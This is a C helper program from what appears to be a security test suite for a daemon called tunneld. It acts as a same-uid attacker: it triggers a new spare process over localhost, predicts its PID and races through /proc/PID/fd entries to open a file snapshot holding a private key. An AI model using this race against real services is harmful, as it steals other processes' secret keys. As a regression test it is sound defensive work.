/* An attacker of tunneld's own uid (tests/test_spares.py): connects a
 * client to 127.0.0.1:PORT, which makes the listener start a new spare, and
 * races to open that spare's file snapshot (which holds the private key)
 * through /proc/PID/fd/N in the moments after its exec. Run
 * as that uid; prints what it opened and exits 0, or exits 1 after TRIES
 * rounds of 0.3 s with nothing. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static long last_pid(void)
{
	char b[32];
	int f = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
	ssize_t n = f < 0 ? -1 : read(f, b, sizeof b - 1);

	if (f >= 0)
		close(f);
	b[n > 0 ? n : 0] = 0;
	return atol(b);
}

static long long now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000LL + t.tv_nsec;
}

int main(int argc, char **argv)
{
	int port = argc > 2 ? atoi(argv[1]) : 0, tries = argc > 2 ? atoi(argv[2]) : 0;

	for (int t = 0; t < tries; t++) {
		long base = last_pid();
		struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((unsigned short)port) };
		int c = socket(AF_INET, SOCK_STREAM, 0);
		long long end = now_ns() + 300000000LL;

		a.sin_addr.s_addr = htonl(0x7f000001);
		if (c < 0 || connect(c, (struct sockaddr *)&a, sizeof a) < 0)
			return 2;
		while (now_ns() < end)
			for (long p = base + 1; p <= base + 6; p++)
				for (int fd = 3; fd < 12; fd++) {
					char path[64], link[128] = "";
					int f;

					snprintf(path, sizeof path, "/proc/%ld/fd/%d", p, fd);
					if ((f = open(path, O_RDONLY)) < 0)
						continue;
					snprintf(path, sizeof path, "/proc/self/fd/%d", f);
					(void)!readlink(path, link, sizeof link - 1);
					close(f);
					if (!strstr(link, "tunneld-files"))
						continue;
					printf("round %d: opened pid %ld fd %d: %s\n", t, p, fd, link);
					return 0;
				}
		close(c);
		usleep(50000);
	}
	return 1;
}
